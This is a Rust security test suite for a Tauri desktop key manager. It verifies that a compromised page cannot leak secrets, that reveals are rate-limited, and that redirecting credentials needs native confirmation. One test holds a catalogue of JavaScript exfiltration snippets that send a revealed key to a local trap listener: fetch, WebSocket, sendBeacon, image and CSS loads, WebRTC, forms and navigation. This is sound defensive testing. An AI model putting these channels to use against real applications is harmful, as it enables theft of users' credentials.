//! The web view has no way out (SPEC §5, docs/security.md "The web view"): a script running in
//! the real Keymint window reads a secret the way a compromised page could (`reveal_key`) and
//! then tries every channel it has to send it to a listener on 127.0.0.1. The listener must
//! receive nothing, the page must still be the app afterwards, and the app must still work.
//! Reveals are rate-limited and recorded. A new account (or an edit) that would send a
//! credential to an address the page chose waits for a native confirmation, which the test
//! answers with `xdotool` as a user would.
//!
//! Needs what tests/tests/app_window.rs needs: `tauri-driver`, WebKitWebDriver, a display and a
//! Secret Service (`scripts/test-session.sh`), after `npm --prefix ui run build` and
//! `cargo build --workspace --bins --features custom-protocol`.

use std::io::Read;
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::sync::{Arc, Mutex, PoisonError};
use std::time::{Duration, Instant};

use keymint_tests::accounts::{account_fields, add_account_at, key_fields, set_args};
use keymint_tests::app::{
    answer_native_dialog, destination_dialog_title, save_screenshot, testid, App, FOR_SCREENSHOTS,
};
use keymint_tests::fakes::{FakeOptions, FakeServer, Provider, DEFAULT_CREDENTIAL};
use keymint_tests::harness::Env;
use serde_json::{json, Value};

/// Windows share one X display; these tests keep focus-sensitive steps short, but one window
/// at a time keeps the timings honest on a loaded machine.
static DISPLAY: Mutex<()> = Mutex::new(());

// ---- The trap: a listener that records every connection and datagram ------------------------

/// A TCP listener (and a UDP socket on the same port) on 127.0.0.1 that records the first
/// bytes of everything that reaches it.
struct Trap {
    port: u16,
    hits: Arc<Mutex<Vec<String>>>,
}

impl Trap {
    fn start() -> Trap {
        let tcp = TcpListener::bind("127.0.0.1:0").expect("bind trap");
        let port = tcp.local_addr().expect("addr").port();
        let hits = Arc::new(Mutex::new(Vec::new()));
        let record = Arc::clone(&hits);
        std::thread::spawn(move || {
            for stream in tcp.incoming().flatten() {
                let record = Arc::clone(&record);
                std::thread::spawn(move || record_tcp(stream, &record));
            }
        });
        // WebRTC's STUN and anything else datagram-shaped.
        if let Ok(udp) = UdpSocket::bind(("127.0.0.1", port)) {
            let record = Arc::clone(&hits);
            std::thread::spawn(move || {
                let mut buf = [0u8; 2048];
                while let Ok((n, from)) = udp.recv_from(&mut buf) {
                    record
                        .lock()
                        .unwrap_or_else(PoisonError::into_inner)
                        .push(format!(
                            "udp from {from}: {}",
                            String::from_utf8_lossy(&buf[..n.min(200)])
                        ));
                }
            });
        }
        Trap { port, hits }
    }

    fn url(&self, path: &str) -> String {
        format!("http://127.0.0.1:{}/{path}", self.port)
    }

    fn hits(&self) -> Vec<String> {
        self.hits
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .clone()
    }

    /// Connects from the test itself with `marker` and waits until the trap recorded it: the
    /// trap works, and everything that reached it before has been recorded (it answers in
    /// order of arrival). Returns what it recorded before the marker.
    fn drain_with_control(&self, marker: &str) -> Vec<String> {
        let mut s = TcpStream::connect(("127.0.0.1", self.port)).expect("control connect");
        std::io::Write::write_all(&mut s, format!("CONTROL {marker}\r\n\r\n").as_bytes())
            .expect("control write");
        drop(s);
        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            let hits = self.hits();
            if let Some(i) = hits.iter().position(|h| h.contains(marker)) {
                let mut others = hits;
                others.remove(i);
                return others
                    .into_iter()
                    .filter(|h| !h.contains("CONTROL "))
                    .collect();
            }
            assert!(
                Instant::now() < deadline,
                "the trap did not record the test's own control connection"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
    }
}

fn record_tcp(mut stream: TcpStream, record: &Mutex<Vec<String>>) {
    let peer = stream
        .peer_addr()
        .map(|a| a.to_string())
        .unwrap_or_default();
    let _ = stream.set_read_timeout(Some(Duration::from_millis(700)));
    let mut first = Vec::new();
    let mut buf = [0u8; 1024];
    while first.len() < 600 {
        match stream.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => first.extend_from_slice(&buf[..n]),
        }
        if first.windows(4).any(|w| w == b"\r\n\r\n") {
            break;
        }
    }
    let text = String::from_utf8_lossy(&first);
    let head: String = text.lines().take(3).collect::<Vec<_>>().join(" | ");
    record
        .lock()
        .unwrap_or_else(PoisonError::into_inner)
        .push(format!("tcp from {peer}: {head}"));
}

// ---- Set-up ---------------------------------------------------------------------------------

/// A Fireworks fake with account `fw` and one key `label`; returns the fake and the key's id.
fn fireworks_key(env: &Env, label: &str) -> (FakeServer, String) {
    let fake = FakeServer::start(Provider::Fireworks, FakeOptions::default());
    add_account_at(
        env,
        Provider::Fireworks,
        "fw",
        &fake.base_url(),
        DEFAULT_CREDENTIAL,
    )
    .ok();
    let mut args: Vec<String> = ["--json", "key", "create", "fw", "--label", label]
        .map(String::from)
        .to_vec();
    args.extend(set_args(&key_fields(Provider::Fireworks)));
    let refs: Vec<&str> = args.iter().map(String::as_str).collect();
    env.run(&refs, None).ok();
    let list = env.run(&["--json", "key", "list"], None).ok().json();
    let id = list
        .as_array()
        .and_then(|keys| keys.iter().find(|k| k["label"] == label))
        .and_then(|k| k["id"].as_str())
        .expect("the key is listed")
        .to_owned();
    (fake, id)
}

/// Where the page is, and whether it still shows the inventory.
fn where_is_the_page(app: &App) -> (String, bool) {
    let v = app
        .command(
            "POST",
            "/execute/sync",
            Some(json!({
                "script": "return [location.href, document.querySelector('[data-testid=key-list]') !== null];",
                "args": []
            })),
        )
        .unwrap_or(Value::Null);
    (
        v[0].as_str().unwrap_or("(no page)").to_owned(),
        v[1].as_bool().unwrap_or(false),
    )
}

fn window_count(app: &App) -> usize {
    app.command("GET", "/window/handles", None)
        .ok()
        .and_then(|v| v.as_array().map(Vec::len))
        .unwrap_or(0)
}

/// One channel tried: what the page said, and whether the page left the app or a window
/// opened. The trap is checked once at the end (and per attempt for the report).
struct Attempt {
    channel: &'static str,
    page_said: Value,
    left_to: Option<String>,
    new_windows: usize,
    trap_hits: usize,
}

// ---- Tests ----------------------------------------------------------------------------------

/// Every way a page script could send a secret out: it reaches nothing.
#[test]
fn a_page_script_cannot_send_a_secret_anywhere() {
    let _display = DISPLAY.lock().unwrap_or_else(PoisonError::into_inner);
    let env = Env::new();
    let (fake, id) = fireworks_key(&env, "exfil-target");
    let trap = Trap::start();
    let app = App::launch(&env, &[]);
    app.wait_for("[data-testid=key-row]");
    let (home, _) = where_is_the_page(&app);
    let windows_before = window_count(&app);

    // The secret, read the way a compromised page can.
    let revealed = app.invoke("reveal_key", json!({"id": id}));
    let secret = revealed["ok"]
        .as_str()
        .unwrap_or_else(|| panic!("reveal_key: {revealed}"))
        .to_owned();

    // Each attempt ends with a signal from the page (the request failed, an error event
    // fired) or, for navigations and windows, a second in which to happen.
    let attempts: Vec<(&'static str, &str)> = vec![
        (
            "fetch",
            "try { await fetch(args[0] + 'fetch?' + args[1]); return 'sent'; }
             catch (e) { return 'refused: ' + e; }",
        ),
        (
            "fetch no-cors POST",
            "try { await fetch(args[0] + 'post', {method: 'POST', mode: 'no-cors', body: args[1]}); return 'sent'; }
             catch (e) { return 'refused: ' + e; }",
        ),
        (
            "XMLHttpRequest",
            "return await new Promise((res) => {
               const x = new XMLHttpRequest();
               x.onload = () => res('sent'); x.onerror = () => res('refused: error event');
               try { x.open('GET', args[0] + 'xhr?' + args[1]); x.send(); }
               catch (e) { res('refused: ' + e); }
             });",
        ),
        (
            "WebSocket",
            "return await new Promise((res) => {
               try {
                 const ws = new WebSocket(args[0].replace('http', 'ws') + 'ws?' + args[1]);
                 ws.onopen = () => res('sent'); ws.onerror = () => res('refused: error event');
               } catch (e) { res('refused: ' + e); }
             });",
        ),
        (
            "EventSource",
            "return await new Promise((res) => {
               try {
                 const es = new EventSource(args[0] + 'sse?' + args[1]);
                 es.onopen = () => res('sent'); es.onerror = () => { es.close(); res('refused: error event'); };
               } catch (e) { res('refused: ' + e); }
             });",
        ),
        (
            "sendBeacon",
            "try { return navigator.sendBeacon(args[0] + 'beacon', args[1]) ? 'queued' : 'refused: false'; }
             catch (e) { return 'refused: ' + e; }",
        ),
        (
            "image",
            "return await new Promise((res) => {
               const img = new Image();
               img.onload = () => res('sent'); img.onerror = () => res('refused: error event');
               img.src = args[0] + 'img?' + args[1];
             });",
        ),
        (
            "CSS background image",
            "const d = document.createElement('div');
             d.style.backgroundImage = 'url(' + args[0] + 'css?' + args[1] + ')';
             d.style.width = '10px'; d.style.height = '10px';
             document.body.append(d); getComputedStyle(d).backgroundImage;
             await new Promise((r) => setTimeout(r, 1000)); d.remove(); return 'tried';",
        ),
        (
            "script element",
            "return await new Promise((res) => {
               const s = document.createElement('script');
               s.onload = () => res('sent'); s.onerror = () => res('refused: error event');
               s.src = args[0] + 'script?' + args[1]; document.head.append(s);
             });",
        ),
        (
            "link prefetch / preload",
            "for (const rel of ['prefetch', 'preload', 'stylesheet', 'dns-prefetch', 'preconnect']) {
               const l = document.createElement('link'); l.rel = rel; l.as = 'fetch';
               l.href = args[0] + rel + '?' + args[1]; document.head.append(l);
             }
             await new Promise((r) => setTimeout(r, 1000)); return 'tried';",
        ),
        (
            "iframe",
            "const f = document.createElement('iframe'); f.src = args[0] + 'iframe?' + args[1];
             document.body.append(f); await new Promise((r) => setTimeout(r, 1000)); f.remove(); return 'tried';",
        ),
        (
            "audio / video / object",
            "const a = document.createElement('audio'); a.src = args[0] + 'audio?' + args[1]; a.load();
             const o = document.createElement('object'); o.data = args[0] + 'object?' + args[1]; document.body.append(o);
             await new Promise((r) => setTimeout(r, 1000)); o.remove(); return 'tried';",
        ),
        (
            "web worker",
            "try { new Worker(args[0] + 'worker?' + args[1]); } catch (e) { return 'refused: ' + e; }
             await new Promise((r) => setTimeout(r, 1000)); return 'tried';",
        ),
        (
            "WebRTC (STUN)",
            "if (typeof RTCPeerConnection === 'undefined') return 'refused: no RTCPeerConnection';
             const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + new URL(args[0]).port}]});
             pc.createDataChannel('x'); await pc.setLocalDescription(await pc.createOffer());
             await new Promise((r) => setTimeout(r, 1500)); pc.close(); return 'tried';",
        ),
        (
            "<a ping> click",
            "const back = location.href;
             const a = document.createElement('a'); a.href = '#ping'; a.ping = args[0] + 'ping?' + args[1];
             a.textContent = 'x'; document.body.append(a); a.click(); a.remove();
             await new Promise((r) => setTimeout(r, 1000)); history.replaceState(null, '', back); return 'tried';",
        ),
        (
            "form POST",
            "const f = document.createElement('form'); f.method = 'post'; f.action = args[0] + 'form';
             const i = document.createElement('input'); i.name = 's'; i.value = args[1]; f.append(i);
             document.body.append(f); setTimeout(() => f.submit(), 0); return 'submitted';",
        ),
        (
            "form GET to a new window",
            "const f = document.createElement('form'); f.method = 'get'; f.target = '_blank'; f.action = args[0] + 'form-blank';
             const i = document.createElement('input'); i.name = 's'; i.value = args[1]; f.append(i);
             document.body.append(f); f.submit(); return 'submitted';",
        ),
        (
            "window.open",
            "const w = window.open(args[0] + 'open?' + args[1]); return w === null ? 'refused: null' : 'opened';",
        ),
        (
            "<a target=_blank> click",
            "const a = document.createElement('a'); a.href = args[0] + 'blank?' + args[1]; a.target = '_blank';
             a.textContent = 'x'; document.body.append(a); a.click(); a.remove(); return 'clicked';",
        ),
        (
            "meta refresh",
            "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + args[0] + 'refresh?' + args[1];
             document.head.append(m); return 'added';",
        ),
        (
            "location assignment",
            "setTimeout(() => { location = args[0] + 'location?' + args[1]; }, 0); return 'assigned';",
        ),
        (
            "location.replace",
            "setTimeout(() => { location.replace(args[0] + 'replace?' + args[1]); }, 0); return 'replaced';",
        ),
        (
            "<a href> click",
            "const a = document.createElement('a'); a.href = args[0] + 'href?' + args[1];
             a.textContent = 'x'; document.body.append(a); setTimeout(() => a.click(), 0); return 'clicked';",
        ),
    ];

    let mut results = Vec::new();
    for (channel, body) in attempts {
        let page_said = app.run_async(body, vec![json!(trap.url("")), json!(secret)]);
        // A second for a navigation or a window to happen; then the page must be the app.
        std::thread::sleep(Duration::from_secs(1));
        let (href, ok) = where_is_the_page(&app);
        let left_to =
            (!ok || href.split('#').next() != home.split('#').next()).then(|| href.clone());
        if left_to.is_some() {
            // Back to the app for the next channel.
            let _ = app.command("POST", "/url", Some(json!({"url": home})));
            app.wait_for(&testid("key-list"));
        }
        let windows = window_count(&app);
        results.push(Attempt {
            channel,
            page_said,
            left_to,
            new_windows: windows.saturating_sub(windows_before),
            trap_hits: trap.hits().len(),
        });
    }

    // The IPC route: point the account at the trap without its credential, then create.
    let fields: serde_json::Map<String, Value> = account_fields(Provider::Fireworks)
        .iter()
        .filter_map(|f| f.split_once('='))
        .map(|(k, v)| (k.to_owned(), json!(v)))
        .collect();
    let fake_requests = fake.request_count();
    let moved = app.invoke(
        "update_account",
        json!({"name": "fw", "input": {
            "provider": "fireworks", "name": "fw", "base_url": trap.url(""), "fields": fields,
        }}),
    );
    let created = app.invoke(
        "create_key",
        json!({"input": {"account": "fw", "label": "after-the-move", "fields": {}}}),
    );
    results.push(Attempt {
        channel: "update_account to the trap, then create_key",
        page_said: json!({"update_account": moved, "create_key": created}),
        left_to: None,
        new_windows: 0,
        trap_hits: trap.hits().len(),
    });

    let report: Vec<String> = results
        .iter()
        .map(|a| {
            format!(
                "{:<46} page: {} | left to: {} | new windows: {} | trap hits so far: {}",
                a.channel,
                a.page_said,
                a.left_to.as_deref().unwrap_or("-"),
                a.new_windows,
                a.trap_hits
            )
        })
        .collect();
    let report = report.join("\n");
    eprintln!("{report}");

    let reached = trap.drain_with_control("end-of-attempts");
    assert!(
        reached.is_empty(),
        "the trap was reached:\n{}\n\nattempts:\n{report}",
        reached.join("\n")
    );
    for a in &results {
        assert!(
            a.left_to.is_none(),
            "{}: the page left the app for {:?}\n{report}",
            a.channel,
            a.left_to
        );
        assert_eq!(a.new_windows, 0, "{}: a window opened\n{report}", a.channel);
    }
    assert_eq!(
        moved["err"]["code"], "validation",
        "moving the account without its credential must be refused: {moved}"
    );
    assert!(
        !trap.hits().iter().any(|h| h.contains(&secret)),
        "the secret reached the trap"
    );

    // The app still works: the create went to the account's own server, the keys are listed,
    // and a legitimate action through the window works.
    assert!(
        created["ok"]["key"]["label"] == "after-the-move",
        "create_key through the account's own server: {created}"
    );
    assert!(
        fake.request_count() > fake_requests,
        "the page's create went to the account's own server"
    );
    app.click("[data-testid=key-row]");
    app.wait_for(&testid("detail-pane"));
    app.click(&testid("copy"));
    app.wait_text(&testid("toast"), "the copy toast", |t| {
        t.starts_with("Copied")
    });
    let shown = env.run(&["--json", "account", "list"], None).ok().json();
    assert!(
        !shown.to_string().contains(&trap.url("")),
        "the account's base URL is not the trap's: {shown}"
    );
}

/// The page's protections are in effect: prototypes frozen, no `eval`, a connection to
/// anywhere refused by the CSP, and Tauri commands outside the app's own refused.
#[test]
fn the_page_runs_under_a_strict_csp_and_the_smallest_capability() {
    let _display = DISPLAY.lock().unwrap_or_else(PoisonError::into_inner);
    let env = Env::new();
    let app = App::launch(&env, &[]);

    let checks = app.run_async("const out = {};
         out.frozen = Object.isFrozen(Object.prototype);
         try { eval('1 + 1'); out.eval = 'ran'; } catch (e) { out.eval = e.name; }
         try { new Function('return 1')(); out.fn = 'ran'; } catch (e) { out.fn = e.name; }
         const violations = [];
         document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
         try { await fetch('http://127.0.0.1:9/'); out.fetch = 'sent'; } catch (e) { out.fetch = e.name; }
         await new Promise((r) => setTimeout(r, 200));
         out.violations = violations;
         out.origin = location.origin;
         return out;",
        vec![],
    );
    let c = &checks["ok"];
    assert_eq!(c["frozen"], true, "freezePrototype: {checks}");
    assert_eq!(c["eval"], "EvalError", "the CSP allows no eval: {checks}");
    assert_eq!(
        c["fn"], "EvalError",
        "the CSP allows no Function(): {checks}"
    );
    assert_eq!(
        c["fetch"], "TypeError",
        "fetch to 127.0.0.1 refused: {checks}"
    );
    assert!(
        c["violations"]
            .as_array()
            .is_some_and(|v| v.iter().any(|d| d == "connect-src")),
        "the refusal was the CSP's connect-src: {checks}"
    );

    // Commands the capability does not grant: Tauri's own plugins, and the event plugin's
    // emit (the app only listens).
    for (cmd, args) in [
        (
            "plugin:webview|create_webview_window",
            json!({"options": {"label": "x", "url": "http://127.0.0.1:9/"}}),
        ),
        (
            "plugin:window|set_title",
            json!({"label": "main", "value": "x"}),
        ),
        (
            "plugin:notification|notify",
            json!({"options": {"title": "x"}}),
        ),
        ("plugin:event|emit", json!({"event": "x", "payload": null})),
        // The dialog plugin is registered for Rust's own confirmations only: a page can
        // neither show a native dialog nor answer one.
        (
            "plugin:dialog|message",
            json!({"message": "x", "title": "Keymint: send a credential to https://x?"}),
        ),
        ("plugin:app|version", json!({})),
    ] {
        let answer = app.invoke(cmd, args);
        let message = answer["err"]["message"].as_str().unwrap_or_default();
        assert!(
            answer.get("err").is_some() && message.contains("not allowed"),
            "{cmd} must be refused by the capability: {answer}"
        );
    }
    // And one the app needs still works.
    let providers = app.invoke("list_providers", json!({}));
    assert!(
        providers["ok"].as_array().is_some_and(|p| p.len() == 5),
        "{providers}"
    );
    // The main window and the (hidden) quick access palette: nothing the page opened.
    assert_eq!(window_count(&app), 2);
}

/// A script can reveal a handful of secrets a minute, each one recorded; the sixth is refused
/// with `rate_limited`, and the window says why and when.
#[test]
fn reveals_are_rate_limited_and_recorded() {
    let _display = DISPLAY.lock().unwrap_or_else(PoisonError::into_inner);
    let env = Env::new();
    let (_fake, id) = fireworks_key(&env, "drain-me");
    let app = App::launch(&env, &[FOR_SCREENSHOTS]);
    app.wait_for("[data-testid=key-row]");

    let answers: Vec<Value> = (0..6)
        .map(|_| app.invoke("reveal_key", json!({"id": id})))
        .collect();
    for (i, a) in answers[..5].iter().enumerate() {
        assert!(
            a["ok"].is_string(),
            "reveal {} within the limit: {a}",
            i + 1
        );
    }
    let sixth = &answers[5];
    assert_eq!(
        sixth["err"]["code"], "rate_limited",
        "the sixth reveal: {sixth}"
    );
    let message = sixth["err"]["message"].as_str().unwrap_or_default();
    assert!(message.contains("try again in"), "{message}");
    let secret = answers[0]["ok"].as_str().unwrap_or_default();
    assert!(!message.contains(secret), "no secret in the refusal");

    // Every reveal that returned a secret is on record.
    let kinds = env.event_kinds(&id);
    assert_eq!(
        kinds.iter().filter(|k| *k == "revealed").count(),
        5,
        "events: {kinds:?}"
    );

    // In the window: the activity list names the reveals, and Reveal says why it is paused.
    app.click("[data-testid=key-row]");
    app.wait_for(&testid("detail-pane"));
    app.wait_text(&testid("detail-events"), "the reveals", |t| {
        t.matches("Secret revealed").count() == 5
    });
    app.click(&testid("reveal"));
    let banner = app.wait_text(&testid("reveal-limited"), "the pause", |t| {
        t.contains("try again in")
    });
    assert!(banner.contains("Copy still works"), "{banner}");
    assert_eq!(app.count(&testid("revealed-secret")), 0);
    save_screenshot("reveal-rate-limited", &app.screenshot());
}

/// The page's fields for a Fireworks account.
fn fireworks_fields() -> serde_json::Map<String, Value> {
    account_fields(Provider::Fireworks)
        .iter()
        .filter_map(|f| f.split_once('='))
        .map(|(k, v)| (k.to_owned(), json!(v)))
        .collect()
}

/// `invoke`s `cmd` with `args` in the page while a thread answers the app's native
/// confirmation for `origin` with `key`; returns what the page said and how the answer went
/// (`Err` when no confirmation appeared within 10 s).
fn invoke_answering(
    app: &App,
    cmd: &str,
    args: Value,
    origin: &str,
    key: &str,
) -> (Value, Result<(), String>) {
    let title = destination_dialog_title(origin);
    std::thread::scope(|s| {
        let answer = s.spawn(|| answer_native_dialog(&title, key, Duration::from_secs(10)));
        let said = app.invoke(cmd, args);
        (said, answer.join().expect("the answering thread"))
    })
}

/// The page chooses both the address and the credential of a NEW account: it reveals a
/// secret, adds an account pointed at its own listener with that secret as the credential,
/// and creates a key there. The app asks natively first; refused (Escape), nothing is added
/// and nothing is sent. Moving an existing account there with the credential re-entered asks
/// the same. A user who typed the address confirms (Alt+O, the OK button's access key: Return
/// answers with the focused Cancel) and the account is added.
#[test]
fn a_page_cannot_send_a_credential_to_an_address_it_chose() {
    let _display = DISPLAY.lock().unwrap_or_else(PoisonError::into_inner);
    let env = Env::new();
    let (fake, id) = fireworks_key(&env, "bait");
    let trap = Trap::start();
    let trap_origin = format!("http://127.0.0.1:{}", trap.port);
    let app = App::launch(&env, &[]);
    app.wait_for("[data-testid=key-row]");

    let revealed = app.invoke("reveal_key", json!({"id": id}));
    let secret = revealed["ok"]
        .as_str()
        .unwrap_or_else(|| panic!("reveal_key: {revealed}"))
        .to_owned();

    // 1. A new account at the trap, the revealed secret as its credential; the user refuses.
    let (added, answered) = invoke_answering(
        &app,
        "add_account",
        json!({"input": {
            "provider": "fireworks", "name": "exfil", "base_url": trap.url(""),
            "fields": fireworks_fields(), "credential": secret,
        }}),
        &trap_origin,
        "Escape",
    );
    let created = app.invoke(
        "create_key",
        json!({"input": {"account": "exfil", "label": "exfil", "fields": {}}}),
    );
    eprintln!("add_account: {added}\nanswer: {answered:?}\ncreate_key: {created}");

    // 2. The existing account moved to the trap with the credential entered again; refused.
    let (moved, moved_answer) = invoke_answering(
        &app,
        "update_account",
        json!({"name": "fw", "input": {
            "provider": "fireworks", "name": "fw", "base_url": trap.url(""),
            "fields": fireworks_fields(), "credential": secret,
        }}),
        &trap_origin,
        "Escape",
    );
    let fake_requests = fake.request_count();
    let created_fw = app.invoke(
        "create_key",
        json!({"input": {"account": "fw", "label": "still-home", "fields": {}}}),
    );
    eprintln!("update_account: {moved}\nanswer: {moved_answer:?}\ncreate_key fw: {created_fw}");

    let reached = trap.drain_with_control("end-of-new-account");
    assert!(
        reached.is_empty(),
        "the trap was reached:\n{}\nadd_account: {added}\ncreate_key: {created}\nupdate_account: {moved}",
        reached.join("\n")
    );
    answered.unwrap_or_else(|e| panic!("add_account must ask natively first: {e}\n{added}"));
    assert_eq!(added["err"]["code"], "cancelled", "refused: {added}");
    assert_eq!(
        created["err"]["code"], "not_found",
        "no account to create in: {created}"
    );
    moved_answer.unwrap_or_else(|e| panic!("update_account must ask natively first: {e}\n{moved}"));
    assert_eq!(moved["err"]["code"], "cancelled", "refused: {moved}");
    assert_eq!(
        created_fw["ok"]["key"]["label"], "still-home",
        "the account still creates at its own server: {created_fw}"
    );
    assert!(fake.request_count() > fake_requests);
    let accounts = env.run(&["--json", "account", "list"], None).ok().json();
    let names: Vec<&str> = accounts
        .as_array()
        .map(|a| a.iter().filter_map(|x| x["name"].as_str()).collect())
        .unwrap_or_default();
    assert_eq!(names, ["fw"], "{accounts}");
    assert!(
        !accounts.to_string().contains(&trap_origin),
        "no account points at the trap: {accounts}"
    );

    // 3. The user's own path: an address they typed, confirmed with the OK button (Alt+O).
    let (added, answered) = invoke_answering(
        &app,
        "add_account",
        json!({"input": {
            "provider": "fireworks", "name": "staging", "base_url": fake.base_url(),
            "fields": fireworks_fields(), "credential": DEFAULT_CREDENTIAL,
        }}),
        &fake.origin(),
        "alt+o",
    );
    answered.unwrap_or_else(|e| panic!("the confirmation for the user's address: {e}\n{added}"));
    assert_eq!(added["ok"]["name"], "staging", "confirmed: {added}");
    let accounts = env.run(&["--json", "account", "list"], None).ok().json();
    assert!(
        accounts
            .as_array()
            .is_some_and(|a| a.iter().any(|x| x["name"] == "staging")),
        "{accounts}"
    );
    // A base URL at the provider's default origin needs no confirmation at all.
    let added = app.invoke(
        "add_account",
        json!({"input": {
            "provider": "fireworks", "name": "default", "base_url": "https://api.fireworks.ai/",
            "fields": fireworks_fields(), "credential": DEFAULT_CREDENTIAL,
        }}),
    );
    assert_eq!(added["ok"]["name"], "default", "{added}");
}
